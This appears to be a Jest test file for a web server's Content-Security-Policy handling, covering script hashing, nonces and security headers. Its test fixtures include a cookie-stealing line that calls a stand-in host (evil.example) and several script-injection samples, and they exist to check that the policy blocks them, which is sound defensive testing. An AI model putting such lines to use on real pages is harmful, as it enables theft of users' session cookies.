/** @jest-environment node */
import { once } from 'node:events';
import { createServer, get, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { jest } from '@jest/globals';
import compression from 'compression';
import { secureAnswer } from '../security/answer-headers.ts';
import { hashSource } from '../security/page-policy.ts';
import { themeScript } from '../shell/inline-code.ts';
import { collectAnswer } from './collect-answer.ts';
import { emptyContent } from '../replica/empty-content.ts';
import { createPages } from './pages.ts';
import { sendWhole } from './site-handler.ts';

const DATA = String.raw`self.__next_f.push([1,"5:[\"$\",\"p\",null,{\"children\":\"\u003cscript\u003e\"}]\n"])`;
const page = `<!doctype html><script>${themeScript}</script><p>${'Horário '.repeat(500)}</p><script>${DATA}</script>`;

let server: Server;
let base: string;
let answer: (response: ServerResponse, request: IncomingMessage) => void;

const compress = compression();
const pages = createPages(emptyContent(), async () => {});

beforeAll(async () => {
  server = createServer((request, response) => {
    compress(request, response, () => {});
    const nonce = secureAnswer(request, response);
    const made = pages.begin(request, response);
    collectAnswer(response, (body) => sendWhole(request, response, body, made, nonce));
    answer(response, request);
  }).listen(0);
  await once(server, 'listening');
  base = `http://localhost:${(server.address() as AddressInfo).port}`;
});

afterAll(() => {
  server.closeAllConnections();
  server.close();
});

function send(html: string, etag = `"${html.length}"`): void {
  answer = (response) => {
    response.setHeader('etag', etag);
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.setHeader('content-length', Buffer.byteLength(html));
    response.end(html);
  };
}

async function scriptSources(path = '/', headers: Record<string, string> = {}): Promise<string> {
  const response = await fetch(base + path, { headers });
  await response.arrayBuffer();
  return /script-src ([^;]*)/.exec(response.headers.get('content-security-policy') ?? '')?.[1] ?? 'none';
}

it('names the inline scripts of a page in its policy, and nothing else may run', async () => {
  send(page);
  const response = await fetch(base, { headers: { 'accept-encoding': 'gzip, br' } });
  expect(await response.text()).toBe(page);
  expect(response.headers.get('content-encoding')).toBe('br');
  const policy = response.headers.get('content-security-policy') ?? '';
  expect(policy).toContain(`script-src 'self' ${hashSource(themeScript)} ${hashSource(DATA)};`);
  expect(policy).toMatch(/^default-src 'none';/);
  expect(/script-src[^;]*'unsafe/.test(policy)).toBe(false);
});

it('makes another policy when the page has changed, and the same one while it has not', async () => {
  const changed = page.replace('Horário', 'Horários');
  send(page);
  const first = await scriptSources();
  send(changed.replace('null', 'nul1'), '"2"');
  const second = await scriptSources();
  expect(second).not.toBe(first);
  send(page);
  expect([await scriptSources(), await scriptSources()]).toEqual([first, first]);
});

it.each([
  ['a stranger’s script', 'fetch("https://evil.example/"+document.cookie)'],
  ['code behind data', 'self.__next_f.push([1,"a"]);alert(1)'],
  ['code in place of data', 'self.__next_f.push(alert(1))'],
  ['code within data', 'self.__next_f.push([1,`${alert(1)}`])'],
  ['a changed theme script', `${themeScript};alert(1)`],
])('does not let %s run that got into a page, and says so', async (_title, code) => {
  const log = jest.spyOn(console, 'error').mockImplementation(() => {});
  send(`<p>nome</p><script>${code}</script><script>${DATA}</script>`, '');
  expect(await scriptSources()).toBe(`'self' ${hashSource(DATA)}`);
  expect(log).toHaveBeenCalledWith(expect.stringContaining(code.slice(0, 100)));
  log.mockRestore();
});

it('takes data for machines, and scripts with a source, for what they are', async () => {
  send('<script src="/a.js" async=""></script><script type="application/ld+json">{"a":1}</script>', '"other"');
  expect(await scriptSources()).toBe("'self'");
});

it('says in the title of an answer to a form that something is wrong with it, and nowhere else', async () => {
  const form = (wrong: boolean) => `<title>Contato</title><div data-problem="${wrong}"><title>x</title></div>`;
  const titleOf = async (html: string, method: string) => {
    send(html);
    return (await (await fetch(base, { method })).text()).replace(/<\/title>.*/s, '');
  };
  expect(await titleOf(form(true), 'POST')).toBe('<title>Erro: Contato');
  expect(await titleOf(form(false), 'POST')).toBe('<title>Contato');
  expect(await titleOf(form(true), 'GET')).toBe('<title>Contato');
});

it('waits for the whole of a page that comes in parts', async () => {
  answer = (response) => {
    response.setHeader('content-type', 'text/html');
    response.flushHeaders();
    expect(response.headersSent).toBe(false);
    response.write('<p>um</p><script>self.__next_f.pu');
    setImmediate(() => {
      response.write(Buffer.from('sh([1,"dois"])</script>'));
      response.end();
    });
  };
  const response = await fetch(base);
  expect(await response.text()).toBe('<p>um</p><script>self.__next_f.push([1,"dois"])</script>');
  expect(response.headers.get('content-security-policy')).toContain(hashSource('self.__next_f.push([1,"dois"])'));
});

it('gives a page that is made for one browser a nonce, for what is written with it and nothing else', async () => {
  const log = jest.spyOn(console, 'error').mockImplementation(() => {});
  const given: unknown[] = [];
  answer = (response, request) => {
    const policy = String(request.headers['content-security-policy'] ?? '');
    given.push(policy);
    const nonce = /'nonce-(.*)'/.exec(policy)?.[1] ?? '';
    response.setHeader('content-type', 'text/html');
    response.write(`<script nonce="${nonce}">$RC("B:0","S:0")</script>`);
    response.end('<script>alert(1)</script><script nonce="guessed">alert(2)</script>');
  };
  const foreign = { 'content-security-policy': "script-src 'nonce-guessed'" };
  const [first, second] = [
    await scriptSources('/', { cookie: '__prerender_bypass=x', ...foreign }),
    await scriptSources('/', { cookie: '__prerender_bypass=x', ...foreign }),
  ];
  expect(first).toMatch(/^'self' 'nonce-[\w+/=]{24}'$/);
  expect(second).not.toBe(first);
  expect(first).not.toContain('guessed');
  // Pages for everybody have none, whatever a browser asks for.
  expect(await scriptSources('/', foreign)).toBe("'self'");
  expect(given[2]).toBe('');
  log.mockRestore();
});

it('sends what is not a page part by part, as it comes', async () => {
  answer = (response) => {
    response.setHeader('content-type', 'text/event-stream');
    response.flushHeaders();
    response.write('data: 1\n\n');
    (response as ServerResponse & { flush(): void }).flush();
  };
  const response = await fetch(base);
  const reader = response.body?.getReader();
  expect(new TextDecoder().decode((await reader?.read())?.value)).toBe('data: 1\n\n');
  await reader?.cancel();
});

it('leaves browsers the policy they have when they have the page already', async () => {
  answer = (response) => {
    response.statusCode = 304;
    response.end();
  };
  const response = await fetch(base, { headers: { 'if-none-match': '"x"' } });
  expect([response.status, response.headers.get('content-security-policy')]).toEqual([304, null]);
});

it.each(['/', '/api/revision', '/_next/static/chunks/a.js', '/studio', '/studio/structure', '/og/1200x630/a', '/nada'])(
  'says of %s what browsers may do with it',
  async (path) => {
    answer = (response) => response.writeHead(404, { 'content-type': 'text/plain' }).end('nada');
    const { headers } = await fetch(base + path);
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'SAMEORIGIN',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': path.startsWith('/og/') ? 'cross-origin' : 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'content-security-policy': expect.stringMatching(/^default-src 'none'.*frame-ancestors 'self'$/),
    });
    expect(headers.get('strict-transport-security')).toBeNull();
  },
);

it.each([
  ['/', 'none', null],
  ['/', 'cross-site', 'same-origin'],
  ['/', 'same-origin', 'same-origin'],
  ['/studio', 'none', 'same-origin'],
])('cuts %s off from who opened it, when reached by %s: %s', async (path, from, policy) => {
  send(page);
  const { headers } = await fetch(base + path, { headers: { 'sec-fetch-site': from } });
  expect(headers.get('cross-origin-opener-policy')).toBe(policy);
});

it.each(['//%09/a', '//%5Ca', '//[', '/%', '*', 'http://other.example/a'])('answers a request for %s', async (path) => {
  answer = (response) => response.writeHead(400, { 'content-type': 'text/plain' }).end('não');
  const { port } = server.address() as AddressInfo;
  const [response] = await once(get({ port, path }), 'response');
  response.resume();
  expect([response.statusCode, response.headers['x-content-type-options']]).toEqual([400, 'nosniff']);
});

it('keeps browsers on HTTPS that came by it', async () => {
  send(page);
  const { headers } = await fetch(base, { headers: { 'x-forwarded-proto': 'https' } });
  expect(headers.get('strict-transport-security')).toBe('max-age=63072000');
});

it('allows every script of Studio’s page, which is a file of the build', async () => {
  send('<script>window.onerror = show</script><script type="module" src="/studio/static/a.js"></script>', 'W/"studio"');
  expect(await scriptSources('/studio')).toBe(`'self' ${hashSource('window.onerror = show')}`);
});

it('takes a page of the site below Studio’s address for what it is', async () => {
  const log = jest.spyOn(console, 'error').mockImplementation(() => {});
  send(`<script>alert(1)</script><script>${DATA}</script>`, '"missing"');
  expect(await scriptSources('/studio/static/missing.js')).toBe(`'self' ${hashSource(DATA)}`);
  log.mockRestore();
});
